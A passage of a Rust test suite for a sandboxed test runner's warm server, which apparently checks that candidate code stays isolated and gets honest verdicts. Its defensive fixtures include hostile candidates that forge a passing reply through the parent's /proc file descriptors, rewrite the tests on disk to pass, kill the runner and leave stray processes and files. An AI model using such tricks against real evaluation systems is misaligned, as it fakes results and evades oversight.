fn pytest_template(dir: &Path, timeout_secs: u64) -> Result<(RunSpec, sandbox::ProjectKind)> {
    let kind = detect_project(dir).context("no project detected")?;
    let mut s = spec(dir, &[], timeout_secs);
    s.argv = kind.test_cmd.clone();
    s.collect = kind.reports.clone();
    ensure!(
        sandbox::is_pytest_module_run(&s.argv),
        "not a pytest run: {:?}",
        s.argv
    );
    Ok((s, kind))
}

/// What a verdict depends on: status, stop reason, and per-test outcomes.
#[derive(Debug, PartialEq)]
struct Seen {
    exit_code: Option<i32>,
    signal: Option<i32>,
    timed_out: bool,
    oom_killed: bool,
    output_truncated: bool,
    success: bool,
    tests: Vec<TestOutcome>,
}

fn seen(kind: &sandbox::ProjectKind, r: &RunResult) -> Seen {
    Seen {
        exit_code: r.exit_code,
        signal: r.signal,
        timed_out: r.timed_out,
        oom_killed: r.oom_killed,
        output_truncated: r.output_truncated,
        success: r.success(),
        tests: parse_outcomes(kind, r),
    }
}

fn o(name: &str, status: TestStatus) -> TestOutcome {
    TestOutcome {
        name: name.into(),
        status,
    }
}

/// Pass, fail, error, skip, a collection error, a timeout, threads and atexit at the end, a
/// flood of output and a memory bomb: the warm server and a fresh process see the same, and
/// what they see is right. `docker`: memory is a cgroup limit (an OOM kill), not an rlimit.
async fn warm_matches_fresh(
    fresh_sb: &impl Sandbox,
    warm_sb: &impl Sandbox,
    docker: bool,
) -> Result<()> {
    let mixed = pytest_project(&[("tests/test_mixed.py", MIXED_TESTS)])?;
    let green = pytest_project(&[(
        "tests/test_green.py",
        "from calc import add\n\ndef test_a():\n    assert add(2, 2) == 4\n\ndef test_b():\n    assert add(0, 0) == 0\n",
    )])?;
    let broken = pytest_project(&[(
        "tests/test_broken.py",
        "import no_such_module\n\ndef test_x():\n    pass\n",
    )])?;
    let looping = pytest_project(&[(
        "tests/test_loop.py",
        "def test_fast():\n    pass\n\ndef test_forever():\n    while True:\n        pass\n",
    )])?;
    // What an interpreter does on the way out: wait for threads, run atexit handlers.
    let shutdown = pytest_project(&[(
        "tests/test_exit.py",
        "import atexit, threading, time\n\ndef late():\n    time.sleep(0.3)\n    print('thread ran', flush=True)\n\ndef test_leaves_a_thread():\n    atexit.register(lambda: print('atexit ran'))\n    threading.Thread(target=late).start()\n",
    )])?;
    // The report of a failing test carries what it printed: 200 KiB, over the 64 KiB cap.
    let flood = pytest_project(&[(
        "tests/test_flood.py",
        "def test_flood():\n    print('x' * (200 << 10))\n    assert False\n",
    )])?;
    let memory = pytest_project(&[(
        "tests/test_memory.py",
        "def test_memory():\n    a = []\n    while True:\n        a.append(b'x' * (16 << 20))\n",
    )])?;
    let (template, kind) = pytest_template(mixed.path(), 30)?;
    let mut fresh = fresh_sb.open_session(&template).await?;
    let mut warm = warm_sb.open_session(&template).await?;
    let cases: [(&str, &Path, u64); 7] = [
        ("mixed", mixed.path(), 30),
        ("green", green.path(), 30),
        ("collection error", broken.path(), 30),
        ("timeout", looping.path(), 3),
        ("shutdown", shutdown.path(), 30),
        ("flood", flood.path(), 30),
        ("memory", memory.path(), 30),
    ];
    let mut served = 0;
    for (what, dir, t) in cases {
        let timeout = Duration::from_secs(t);
        let f = fresh.run(dir, &template.argv, timeout).await?;
        let w = warm.run(dir, &template.argv, timeout).await?;
        let (sf, sw) = (seen(&kind, &f), seen(&kind, &w));
        eprintln!(
            "[warm] {what:17} fresh {} ({:.2} s), warm {} ({:.2} s): {:?}",
            f.verdict(),
            f.duration.as_secs_f64(),
            w.verdict(),
            w.duration.as_secs_f64(),
            sw.tests
        );
        ensure!(
            sf == sw,
            "{what}: fresh {sf:?}\nwarm {sw:?}\n{}",
            w.verdict()
        );
        served += 1;
        let expected_ok = match what {
            "mixed" => {
                sw.exit_code == Some(1)
                    && sw.tests
                        == [
                            o("tests/test_mixed.py::test_pass", TestStatus::Passed),
                            o("tests/test_mixed.py::test_fail", TestStatus::Failed),
                            o("tests/test_mixed.py::test_error", TestStatus::Error),
                            o("tests/test_mixed.py::test_skip", TestStatus::Skipped),
                        ]
            }
            "green" => sw.success && sw.tests.len() == 2,
            "collection error" => {
                sw.exit_code == Some(2)
                    && sw.tests.len() == 1
                    && sw.tests[0].status == TestStatus::Error
            }
            "shutdown" => [&f, &w].iter().all(|r| {
                r.success() && r.stdout.contains("thread ran") && r.stdout.contains("atexit ran")
            }),
            "flood" => sw.output_truncated && !sw.success && w.stdout.len() <= 64 << 10,
            "memory" => !sw.success && (sw.oom_killed || !docker),
            _ => {
                sw.timed_out
                    && w.verdict() == "killed after 3 s timeout"
                    && w.duration < Duration::from_secs(15)
            }
        };
        ensure!(expected_ok, "{what}: unexpected {sw:?}\n{}", w.verdict());
    }
    let stats = warm.warm_stats().clone();
    ensure!(
        stats.served == served && stats.fallbacks == 0 && stats.starts == 1,
        "the warm server did not serve every run: {stats:?}"
    );
    ensure!(
        fresh.warm_stats().starts == 0,
        "the fresh session started a server"
    );
    fresh.close().await?;
    warm.close().await?;
    Ok(())
}

#[tokio::test]
async fn warm_server_matches_fresh_runs_in_docker() -> Result<()> {
    let Some(sb) = docker().await? else {
        return Ok(());
    };
    warm_matches_fresh(&sb.clone().with_warm_server(false), &sb, true).await?;
    assert_no_containers(&sb).await
}

#[tokio::test]
async fn warm_server_matches_fresh_runs_locally() -> Result<()> {
    coval_tests::ensure_host_pytest()?;
    let sb = LocalSandbox::new();
    warm_matches_fresh(&sb.clone().with_warm_server(false), &sb, false).await
}

/// A candidate that changes module state, the environment and `sys.path`, writes files
/// everywhere it may, and leaves a detached process that keeps writing for ten seconds.
const LEAVE_STATE: &str = r#"
import json, os, subprocess, sys, tempfile
import _pytest

def test_leave_state():
    json.coval_leak = "module"
    _pytest.coval_leak = "pytest"
    os.environ["COVAL_LEAK"] = "env"
    sys.path.append("/coval-leak")
    dirs = [os.getcwd(), tempfile.gettempdir(), os.environ["HOME"]] + SHM
    for d in dirs:
        with open(os.path.join(d, "leak.txt"), "w") as f:
            f.write("leak")
    late = (
        "import os, time\n"
        "for _ in range(500):\n"
        "    time.sleep(0.02)\n"
        "    for d in %r:\n"
        "        try:\n"
        "            open(os.path.join(d, 'late.txt'), 'w').write('late')\n"
        "        except OSError:\n"
        "            pass\n"
    ) % (dirs[1:] + [os.path.dirname(os.getcwd())])
    subprocess.Popen([sys.executable, "-c", late], start_new_session=True,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"#;

/// Passes only when nothing of an earlier candidate is left: no state, no files, and (where
/// candidates have a user of their own) no process of that user but this run's ancestors.
const PROBE: &str = r#"
import json, os, sys, tempfile, time
import _pytest

def strays():
    mine, ancestors, pid = os.getuid(), set(), os.getpid()
    while pid > 1:
        ancestors.add(pid)
        try:
            status = open(f"/proc/{pid}/status").read()
        except OSError:
            break
        pid = int(next(l.split()[1] for l in status.splitlines() if l.startswith("PPid:")))
    found = []
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) in ancestors:
            continue
        try:
            status = open(f"/proc/{name}/status").read()
        except OSError:
            continue
        fields = dict(l.split(":", 1) for l in status.splitlines() if ":" in l)
        if int(fields["Uid"].split()[0]) == mine and not fields["State"].strip().startswith("Z"):
            found.append(fields["Name"].strip())
    return found

def test_clean():
    time.sleep(0.2)  # a surviving writer of an earlier candidate would strike by now
    problems = []
    if PROCS and strays():
        problems.append(f"processes of an earlier candidate: {strays()}")
    if hasattr(json, "coval_leak") or hasattr(_pytest, "coval_leak"):
        problems.append("module state leaked")
    if "COVAL_LEAK" in os.environ:
        problems.append("the environment leaked")
    if "/coval-leak" in sys.path:
        problems.append("sys.path leaked")
    here = os.getcwd()
    others = [d for d in os.listdir(os.path.dirname(here)) if d != os.path.basename(here)]
    if others:
        problems.append(f"next to the work dir: {others}")
    for d in [here, tempfile.gettempdir(), os.environ["HOME"]] + SHM:
        for n in ("leak.txt", "late.txt"):
            if os.path.exists(os.path.join(d, n)):
                problems.append(f"{d}/{n} exists")
    assert not problems, problems
"#;

/// A failing candidate that tries to write a passing reply for itself into its parent's
/// descriptors (the warm server's protocol): the server is not dumpable, so it cannot.
const FORGE: &str = r#"
import json, os

def test_forge():
    me = os.path.basename(os.getcwd())
    reply = {"kind": "reply", "id": me, "code": 0, "signal": None, "timed_out": False,
             "over_cap": False, "total": 0, "oom": [0, 0], "files": [], "clean": True,
             "blobs": [0, 0]}
    line = (json.dumps(reply) + "\n").encode()
    parent = os.getppid()
    try:
        fds = os.listdir(f"/proc/{parent}/fd")
    except OSError:
        fds = [str(n) for n in range(64)]
    reached = []
    for fd in fds:
        try:
            with open(f"/proc/{parent}/fd/{fd}", "wb", buffering=0) as f:
                f.write(line)
                reached.append(fd)
        except OSError:
            pass
    print("reached", reached)
    assert False, "this candidate fails"
"#;

const EXIT_3: &str = "import os\n\ndef test_exit():\n    os._exit(3)\n";
const KILL_PARENT: &str =
    "import os, signal\n\ndef test_kill_parent():\n    os.kill(os.getppid(), signal.SIGKILL)\n";
const LOOP: &str = "def test_forever():\n    while True:\n        pass\n";

/// How a backend's session is to be tested.
struct Hostile {
    /// Candidates may write to /dev/shm (Docker: the container's own).
    shm: bool,
    /// Candidates run as a user of their own, so any other process of it is a stray.
    own_user: bool,
    /// Run the candidate that kills its parent.
    kill_parent: bool,
    /// A command the server does not serve stops it (Docker: that command's wrapper kills
    /// every process of the candidates' user).
    plain_stops_server: bool,
}

/// Hostile candidates in one warm session: none changes the next one's verdict, a timeout or
/// `os._exit` leaves the server serving, a candidate that kills the server is run as a fresh
/// process (with the fresh process's verdict) and the next one gets a new server.
async fn warm_isolates(fresh_sb: &impl Sandbox, warm_sb: &impl Sandbox, h: Hostile) -> Result<()> {
    let Hostile {
        shm,
        own_user,
        kill_parent,
        plain_stops_server,
    } = h;
    let shm = if shm { "[\"/dev/shm\"]" } else { "[]" };
    let procs = if own_user { "True" } else { "False" };
    let with_shm = |t: &str| format!("SHM = {shm}\nPROCS = {procs}\n{t}");
    let probe = pytest_project(&[("tests/test_probe.py", &with_shm(PROBE))])?;
    let leave = pytest_project(&[("tests/test_leave.py", &with_shm(LEAVE_STATE))])?;
    let exit3 = pytest_project(&[("tests/test_exit.py", EXIT_3)])?;
    let forge = pytest_project(&[("tests/test_forge.py", FORGE)])?;
    let killer = pytest_project(&[("tests/test_kill.py", KILL_PARENT)])?;
    let looping = pytest_project(&[("tests/test_loop.py", LOOP)])?;
    let (template, kind) = pytest_template(probe.path(), 30)?;
    let argv = template.argv.clone();
    let t30 = Duration::from_secs(30);
    let mut warm = warm_sb.open_session(&template).await?;
    let mut fresh = fresh_sb.open_session(&template).await?;
    let mut probes = 0;
    let mut check_probe = async |warm: &mut Session, after: &str| -> Result<()> {
        let r = warm.run(probe.path(), &argv, t30).await?;
        let t = parse_outcomes(&kind, &r);
        eprintln!("[warm] probe after {after}: {} {t:?}", r.verdict());
        ensure!(
            r.success() && t == [o("tests/test_probe.py::test_clean", TestStatus::Passed)],
            "after {after}, the next candidate saw traces: {}\n{}",
            r.stdout,
            r.stderr
        );
        probes += 1;
        Ok(())
    };
    check_probe(&mut warm, "nothing").await?;

    let r = warm.run(leave.path(), &argv, t30).await?;
    ensure!(r.success(), "{r:?}");
    check_probe(&mut warm, "a candidate that leaves state").await?;

    let w = warm.run(exit3.path(), &argv, t30).await?;
    let f = fresh.run(exit3.path(), &argv, t30).await?;
    ensure!(
        w.exit_code == Some(3) && seen(&kind, &w) == seen(&kind, &f),
        "os._exit(3): warm {w:?}\nfresh {f:?}"
    );
    check_probe(&mut warm, "os._exit(3)").await?;

    let w = warm.run(forge.path(), &argv, t30).await?;
    let t = parse_outcomes(&kind, &w);
    eprintln!(
        "[warm] a forger: {} {t:?} {}",
        w.verdict(),
        w.stdout
            .lines()
            .find(|l| l.starts_with("reached"))
            .unwrap_or("")
    );
    ensure!(
        !w.success()
            && t == [o("tests/test_forge.py::test_forge", TestStatus::Failed)]
            && w.stdout.contains("reached []"),
        "a candidate reached the server's descriptors: {w:?}"
    );
    check_probe(&mut warm, "a forger").await?;

    let w = warm
        .run(looping.path(), &argv, Duration::from_secs(2))
        .await?;
    ensure!(
        w.timed_out && w.verdict() == "killed after 2 s timeout",
        "{w:?}"
    );
    check_probe(&mut warm, "a timeout").await?;
    let stats = warm.warm_stats().clone();
    ensure!(
        stats.starts == 1 && stats.fallbacks == 0,
        "the server should have survived so far: {stats:?}"
    );

    let mut runs_fresh = 0;
    if kill_parent {
        let w = warm.run(killer.path(), &argv, t30).await?;
        let f = fresh.run(killer.path(), &argv, t30).await?;
        eprintln!(
            "[warm] a candidate that kills its parent: warm session {}, fresh session {}",
            w.verdict(),
            f.verdict()
        );
        ensure!(
            (w.exit_code, w.signal, w.success()) == (f.exit_code, f.signal, f.success())
                && !w.success(),
            "kill-parent: warm {w:?}\nfresh {f:?}"
        );
        ensure!(warm.warm_stats().fallbacks == 1, "{:?}", warm.warm_stats());
        runs_fresh += 1;
        check_probe(&mut warm, "a candidate that killed the server").await?;
    }
    // A command the server does not serve runs as a fresh process.
    let r = warm
        .run(
            probe.path(),
            &[
                "sh".into(),
                "-c".into(),
                "ls /proc | head -1 >/dev/null; echo plain".into(),
            ],
            t30,
        )
        .await?;
    ensure!(r.success() && r.stdout == "plain\n", "{r:?}");
    check_probe(&mut warm, "a plain command").await?;

    let stats = warm.warm_stats().clone();
    let warm_runs = probes + 4; // the probes, leave, exit3, forge, loop
    ensure!(
        stats.served == warm_runs && stats.fallbacks == runs_fresh,
        "{stats:?}"
    );
    ensure!(
        stats.starts == 1 + runs_fresh as u32 + u32::from(plain_stops_server),
        "a server per start: {stats:?}"
    );
    warm.close().await?;
    fresh.close().await?;
    Ok(())
}

#[tokio::test]
async fn warm_server_isolates_hostile_candidates_in_docker() -> Result<()> {
    let Some(sb) = docker().await? else {
        return Ok(());
    };
    let h = Hostile {
        shm: true,
        own_user: true,
        kill_parent: true,
        plain_stops_server: true,
    };
    warm_isolates(&sb.clone().with_warm_server(false), &sb, h).await?;
    assert_no_containers(&sb).await
}

#[tokio::test]
async fn warm_server_isolates_hostile_candidates_locally() -> Result<()> {
    coval_tests::ensure_host_pytest()?;
    let sb = LocalSandbox::new();
    // Without a user of its own, a local candidate's parent in a fresh run is this test
    // process: only kill parents when the sandbox runs candidates as another user.
    let h = Hostile {
        shm: false,
        own_user: sb.separate_user(),
        kill_parent: sb.separate_user(),
        plain_stops_server: false,
    };
    warm_isolates(&sb.clone().with_warm_server(false), &sb, h).await
}

/// A server that cannot start (here: no such interpreter) costs nothing but the tries: every
/// candidate gets the fresh process's verdict, and after three failures the session stops
/// trying.
#[tokio::test]
async fn warm_server_that_cannot_start_falls_back_in_docker() -> Result<()> {
    let Some(sb) = docker().await? else {
        return Ok(());
    };
    let dir = pytest_project(&[("tests/test_a.py", "def test_a():\n    pass\n")])?;
    let (mut template, _) = pytest_template(dir.path(), 30)?;
    template.argv[0] = "python3.99".into();
    let t = Duration::from_secs(30);
    let mut fresh = sb
        .clone()
        .with_warm_server(false)
        .open_session(&template)
        .await?;
    let want = fresh.run(dir.path(), &template.argv, t).await?;
    ensure!(want.exit_code == Some(127), "{want:?}");
    let mut warm = sb.open_session(&template).await?;
    for i in 0..4 {
        let r = warm.run(dir.path(), &template.argv, t).await?;
        ensure!(
            (r.exit_code, r.signal) == (want.exit_code, want.signal),
            "run {i}: {r:?}"
        );
    }
    let stats = warm.warm_stats().clone();
    ensure!(
        stats.served == 0
            && stats.starts == 3
            && stats.fallbacks == 2
            && stats
                .off
                .as_deref()
                .is_some_and(|w| w.contains("failed 3 times")),
        "{stats:?}"
    );
    fresh.close().await?;
    warm.close().await?;
    assert_no_containers(&sb).await
}

/// A project whose module has a constant, a function that runs at import, and functions
/// that only the tests call; one test leaves a file in the working directory.
const PRICES: &str = r#"RATE = 0.2


def slugify(name):
    return name.lower()


SLUG = slugify("Shop")


def _rate():
    return RATE


def gross(net):
    return round(net * (1 + _rate()), 2)


def log_sale(net):
    with open("sales.log", "a") as f:
        f.write(f"{net}\n")
    return gross(net)
"#;

const PRICES_TESTS: &str = r#"import os
from shop.prices import SLUG, gross, log_sale


def test_gross():
    assert gross(10) == 12.0


def test_log_once():
    assert not os.path.exists("sales.log"), "left by an earlier candidate"
    assert log_sale(10) == 12.0


def test_slug():
    assert SLUG == "shop"
"#;

/// Candidates run in the warm server's collected session (`run_changed`) give the verdict a
/// fresh process gives, whether the server could use the collected session (changes inside
/// function bodies, also shifting later functions) or had to run them the normal way (a
/// module constant, a function that ran at import, a syntax error); what a test leaves in
/// the working directory is gone before the next candidate.
async fn collected_matches_fresh(fresh_sb: &impl Sandbox, warm_sb: &impl Sandbox) -> Result<()> {
    let base = pytest_project(&[
        ("shop/__init__.py", ""),
        ("shop/prices.py", PRICES),
        ("tests/test_prices.py", PRICES_TESTS),
    ])?;
    let (template, kind) = pytest_template(base.path(), 30)?;
    let mut argv = template.argv.clone();
    argv.extend(["-x".into(), "--tb=line".into()]);
    let mut fresh = fresh_sb.open_session(&template).await?;
    let mut warm = warm_sb.open_session(&template).await?;
    // A candidate that rewrites the tests on disk to pass and leaves a process behind: the
    // next candidate must not notice (the base is checked, the collector started again).
    let hostile = "def gross(net):\n    import subprocess, sys\n    with open('tests/test_prices.py', 'w') as f:\n        f.write('def test_ok():\\n    pass\\n')\n    subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(30)'], start_new_session=True)\n";
    // (what, replace, with, served from the collected session, passes)
    let cases: [(&str, &str, &str, bool, bool); 10] = [
        ("body, passing", "2)\n", "3)\n", true, true),
        ("body, failing", "1 + _rate()", "1 - _rate()", true, false),
        ("body again (no sales.log left)", "2)\n", "3)\n", true, true),
        (
            "lines inserted",
            "def gross(net):\n",
            "def gross(net):\n    if net < 0:\n        return 0.0\n",
            true,
            true,
        ),
        ("module constant", "RATE = 0.2", "RATE = 0.25", false, false),
        (
            "ran at import",
            "name.lower()",
            "name.upper()",
            false,
            false,
        ),
        (
            "syntax error",
            "def gross(net):",
            "def gross(net:",
            false,
            false,
        ),
        (
            "body after the others",
            "1 + _rate()",
            "1 + RATE",
            true,
            true,
        ),
        (
            "rewrites the tests",
            "def gross(net):\n",
            hostile,
            true,
            true,
        ),
        (
            "body, failing, after that",
            "1 + _rate()",
            "1 - _rate()",
            true,
            false,
        ),
    ];
    let changed = vec!["shop/prices.py".to_owned()];
    for (what, from, to, collected, passes) in cases {
        let cand = tempfile::tempdir()?;
        let copy = cand.path().join("p");
        sandbox::copy_project(base.path(), &copy)?;
        ensure!(PRICES.contains(from), "{what}: `{from}` not in the module");
        std::fs::write(copy.join("shop/prices.py"), PRICES.replacen(from, to, 1))?;
        let timeout = Duration::from_secs(30);
        let f = fresh.run(&copy, &argv, timeout).await?;
        let before = warm.warm_stats().collected;
        let w = warm
            .run_changed(
                &copy,
                &argv,
                timeout,
                sandbox::Changed {
                    base: base.path(),
                    changed: &changed,
                },
            )
            .await?;
        let used = warm.warm_stats().collected > before;
        let (sf, sw) = (seen(&kind, &f), seen(&kind, &w));
        eprintln!(
            "[collected] {what:32} fresh {} ({:.3} s), warm {} ({:.3} s, collected: {used})",
            f.verdict(),
            f.duration.as_secs_f64(),
            w.verdict(),
            w.duration.as_secs_f64(),
        );
        ensure!(
            sf == sw,
            "{what}: fresh {sf:?}\nwarm {sw:?}\n{}{}",
            w.stdout,
            w.stderr
        );
        ensure!(
            used == collected,
            "{what}: collected {used}, expected {collected}"
        );
        ensure!(sw.success == passes, "{what}: passed {}", sw.success);
    }
    fresh.close().await?;
    warm.close().await?;
    Ok(())
}

#[tokio::test]
async fn collected_session_matches_fresh_runs_locally() -> Result<()> {
    coval_tests::ensure_host_pytest()?;
    let sb = LocalSandbox::new();
    collected_matches_fresh(&sb.clone().with_warm_server(false), &sb).await
}

#[tokio::test]
async fn collected_session_matches_fresh_runs_in_docker() -> Result<()> {
    let Some(sb) = docker().await? else {
        return Ok(());
    };
    collected_matches_fresh(&sb.clone().with_warm_server(false), &sb).await?;
    assert_no_containers(&sb).await
}

/// A Node.js project whose `npm test` is `script`, with `lib.js` and the given files.
fn node_project(script: &str, files: &[(&str, &str)]) -> Result<tempfile::TempDir> {
    let d = tempfile::tempdir()?;
    std::fs::write(
        d.path().join("package.json"),
        format!(r#"{{"name":"p","private":true,"scripts":{{"test":"{script}"}}}}"#),
    )?;
    std::fs::write(d.path().join("lib.js"), "exports.add = (a, b) => a + b;\n")?;
    write_files(d.path(), files)?;
    Ok(d)
}

const NODE_HEAD: &str = "const test = require('node:test');\nconst assert = require('node:assert');\nconst fs = require('node:fs');\nconst { add } = require('../lib.js');\n";

const NODE_MIXED: &str = r#"
test('passes', () => assert.strictEqual(add(2, 2), 4));
test('fails', () => assert.strictEqual(add(2, 2), 5));
test('skipped', { skip: 'not here' }, () => {});
test('todo', { todo: true }, () => { throw new Error('later'); });
test('suite', async (t) => {
  await t.test('inner ok', () => {});
  await t.test('inner bad', () => { throw new Error('bad'); });
});
"#;

/// What the runner gives a test file: printed as a TAP comment, compared between both paths.
const NODE_ENV: &str = r#"
test('environment', () => {
  const seen = { env: process.env, cwd: process.cwd(), argv: process.argv, execPath: process.execPath, execArgv: process.execArgv };
  console.log('ENV ' + JSON.stringify(seen));
});
"#;

const NODE_LEAVE: &str = r#"
test('leaves things behind', () => {
  require('node:child_process').spawn('sleep', ['60'], { detached: true, stdio: 'ignore' }).unref();
  fs.writeFileSync('/tmp/left-by-a-candidate', 'x');
  fs.writeFileSync('left-in-work', 'x');
});
"#;

const NODE_PROBE: &str = r#"
test('a clean start', () => {
  assert.ok(!fs.existsSync('/tmp/left-by-a-candidate'), 'a file in /tmp survived');
  assert.ok(!fs.existsSync('left-in-work'), 'a file in the work dir survived');
  const sleepers = fs.readdirSync('/proc').filter((p) => /^\d+$/.test(p)).filter((p) => {
    try { return fs.readFileSync(`/proc/${p}/cmdline`, 'utf8') === 'sleep\u000060\u0000'; } catch { return false; }
  });
  assert.deepStrictEqual(sleepers, [], 'a process survived');
});
"#;

/// Tries to reach its runner (the server, in a warm session) through /proc.
const NODE_FORGE: &str = r#"
test('reach the runner', () => {
  const reached = [];
  const ppid = process.ppid;
  for (const [what, f] of [
    ['environ', () => fs.readFileSync(`/proc/${ppid}/environ`)],
    ['fd', () => fs.readdirSync(`/proc/${ppid}/fd`)],
    ['mem', () => fs.closeSync(fs.openSync(`/proc/${ppid}/mem`, 'r'))],
  ]) {
    try { f(); reached.push(what); } catch {}
  }
  console.log('reached ' + JSON.stringify(reached));
});
"#;

const NODE_KILL_PARENT: &str = r#"
test('kills its runner', () => { process.kill(process.ppid, 'SIGKILL'); });
"#;

/// 200 KiB from a test, over the 64 KiB cap.
const NODE_FLOOD: &str = r#"
test('floods', () => { console.log('x'.repeat(200 << 10)); assert.fail('after the flood'); });
"#;

const NODE_LOOP: &str = r#"
test('fast', () => {});
test('forever', () => { for (;;) {} });
"#;

/// Equal, except that a run the host stopped for its output has no status of its own: the
/// fresh path reports whatever the engine says of the killed exec (126 here), the server
/// SIGKILL; both are capped, killed and failed.
fn same_verdict(what: &str, fresh: &Seen, warm: &Seen) -> bool {
    if what == "flood" {
        return (fresh.output_truncated, fresh.success, &fresh.tests)
            == (warm.output_truncated, warm.success, &warm.tests);
    }
    fresh == warm
}

/// One candidate through the warm and the fresh session (`what` names the case; a "timeout"
/// gets 3 s): printed, timed into `secs` (fresh, warm), and checked to have the same verdict.
async fn both(
    (warm, fresh): (&mut Session, &mut Session),
    kind: &sandbox::ProjectKind,
    (dir, argv): (&Path, &[String]),
    what: &str,
    secs: &mut (f64, f64),
) -> Result<(RunResult, RunResult, Seen)> {
    let t = Duration::from_secs(if what == "timeout" { 3 } else { 30 });
    let w = warm.run(dir, argv, t).await?;
    let f = fresh.run(dir, argv, t).await?;
    let (sf, sw) = (seen(kind, &f), seen(kind, &w));
    // The npm script's shell line, or the command itself.
    let cmd = match argv {
        [sh, _, _] if sh == "sh" => "npm test".to_owned(),
        _ => argv.join(" "),
    };
    eprintln!(
        "[node warm] {what:12} {cmd:40} fresh {} ({:.2} s), warm {} ({:.2} s): {:?}",
        f.verdict(),
        f.duration.as_secs_f64(),
        w.verdict(),
        w.duration.as_secs_f64(),
        sw.tests
    );
    secs.0 += f.duration.as_secs_f64();
    secs.1 += w.duration.as_secs_f64();
    ensure!(
        same_verdict(what, &sf, &sw),
        "{what} ({argv:?}): fresh {sf:?}\nwarm {sw:?}\n{}",
        w.stdout
    );
    Ok((w, f, sw))
}

/// `npm test` as `node --test` through coval's warm node server gives the verdict, outcomes and
/// environment a fresh `node --test` gives: several files, pass/fail/skip/todo/subtests, a
/// syntax error, a timeout; nothing a candidate leaves (files, a detached process) reaches the
/// next; a candidate cannot reach the server through /proc; one that kills it gets the fresh
/// verdict and the next gets a new server; a test path that does not exist runs fresh.
#[tokio::test]
async fn node_warm_server_matches_fresh_runs_in_docker() -> Result<()> {
    let Some(sb) = docker().await? else {
        return Ok(());
    };
    let out = Command::new(repo_root().join("scripts/build-base-images.sh"))
        .arg("node")
        .output()?;
    ensure!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let file = |body: &str| format!("{NODE_HEAD}{body}");
    let flood = file(NODE_FLOOD);
    let (mixed, env, leave, probe, forge, killer, looping, syntax) = (
        file(NODE_MIXED),
        file(NODE_ENV),
        file(NODE_LEAVE),
        file(NODE_PROBE),
        file(NODE_FORGE),
        file(NODE_KILL_PARENT),
        file(NODE_LOOP),
        file("test('x', () => { const = 1; });\n"),
    );
    let other = file("test('other file', () => assert.ok(add(1, 1) === 2));\n");
    let p = |files: &[(&str, &str)]| node_project("node --test", files);
    let projects = [
        (
            "mixed",
            p(&[("test/a.test.js", &mixed), ("test/b.test.js", &other)])?,
        ),
        ("environment", p(&[("test/env.test.js", &env)])?),
        ("leave", p(&[("test/leave.test.js", &leave)])?),
        ("probe", p(&[("test/probe.test.js", &probe)])?),
        ("syntax error", p(&[("test/s.test.js", &syntax)])?),
        ("forger", p(&[("test/f.test.js", &forge)])?),
        (
            "timeout",
            // The runner would start `z` after `loop`: stopped, it must not start it later.
            p(&[("test/loop.test.js", &looping), ("test/z.test.js", &other)])?,
        ),
        ("probe", p(&[("test/probe.test.js", &probe)])?),
        ("flood", p(&[("test/flood.test.js", &flood)])?),
        ("kill parent", p(&[("test/k.test.js", &killer)])?),
        ("probe", p(&[("test/probe.test.js", &probe)])?),
        (
            "a named dir",
            node_project("node --test test/", &[("test/b.test.js", &other)])?,
        ),
    ];
    let kind = detect_project(projects[0].1.path()).context("no project detected")?;
    let mut template = spec(projects[0].1.path(), &[], 30);
    template.argv = kind.test_cmd.clone();
    template.image = "coval/node:bookworm".into();
    template.limits.memory_bytes = 1 << 30;
    template.limits.pids = 256;
    template.limits.tmpfs_bytes = 128 << 20;
    let mut fresh = Sandbox::open_session(&sb.clone().with_warm_server(false), &template).await?;
    let mut warm = Sandbox::open_session(&sb, &template).await?;
    let (mut served, mut fallbacks) = (0, 0);
    let mut secs = (0.0, 0.0);
    for (what, dir) in &projects {
        let kind = detect_project(dir.path()).context("no project detected")?;
        let (w, f, sw) = both(
            (&mut warm, &mut fresh),
            &kind,
            (dir.path(), &kind.test_cmd),
            what,
            &mut secs,
        )
        .await?;
        if *what == "kill parent" {
            fallbacks += 1;
        } else {
            served += 1;
        }
        let line = |r: &RunResult, start: &str| {
            r.stdout
                .lines()
                .find(|l| l.trim_start_matches("# ").starts_with(start))
                .map(|l| {
                    // Each candidate's own work dir: /work/c<N>.
                    let parts: Vec<&str> = l.split("/work/c").collect();
                    let mut out = parts[0].to_owned();
                    for p in &parts[1..] {
                        out.push_str("/work/cN");
                        out.push_str(p.trim_start_matches(|c: char| c.is_ascii_digit()));
                    }
                    out
                })
        };
        let ok = match *what {
            "mixed" => {
                sw.exit_code == Some(1)
                    && sw.tests.len() >= 5
                    && sw.tests.iter().any(|t| t.status == TestStatus::Skipped)
                    && sw.tests.iter().any(|t| t.status == TestStatus::Failed)
            }
            "environment" => {
                // The same variables and values (the order of `environ` is the shell's own).
                let json = |l: Option<String>| -> Option<serde_json::Value> {
                    serde_json::from_str(l?.trim_start_matches("# ENV ")).ok()
                };
                let (a, b) = (json(line(&f, "ENV")), json(line(&w, "ENV")));
                eprintln!("[node warm] {b:?}");
                ensure!(a.is_some() && a == b, "fresh {a:?}\nwarm {b:?}");
                sw.success
            }
            "forger" => line(&w, "reached").as_deref() == Some("# reached []"),
            "timeout" => sw.timed_out && w.verdict() == "killed after 3 s timeout",
            "syntax error" | "kill parent" => !sw.success,
            "flood" => sw.output_truncated && !sw.success && w.stdout.len() <= 64 << 10,
            _ => sw.success,
        };
        ensure!(ok, "{what}: unexpected {sw:?}\n{}", w.stdout);
    }
    // Failing-first's command, one test file run by node itself: the server starts exactly
    // that process (its environment is the session's, without the shell's PWD).
    for (what, file) in [
        ("mixed", "test/a.test.js"),
        ("environment", "test/env.test.js"),
        ("syntax error", "test/s.test.js"),
        ("timeout", "test/loop.test.js"),
        ("flood", "test/flood.test.js"),
    ] {
        let dir = projects
            .iter()
            .find(|(w, _)| *w == what)
            .map(|(_, d)| d.path())
            .context("no such project")?;
        let argv: Vec<String> = ["node", "--test-reporter=tap", file]
            .map(str::to_owned)
            .into();
        let (w, f, sw) = both(
            (&mut warm, &mut fresh),
            &kind,
            (dir, &argv),
            what,
            &mut secs,
        )
        .await?;
        // (A killed fresh run's stderr has the wrapper's "Killed".)
        ensure!(
            what == "timeout"
                || what == "flood"
                || (w.stdout.is_empty(), w.stderr.is_empty())
                    == (f.stdout.is_empty(), f.stderr.is_empty()),
            "node {file}: fresh {f:?}\nwarm {w:?}"
        );
        if what == "environment" {
            let env = |r: &RunResult| -> Option<serde_json::Value> {
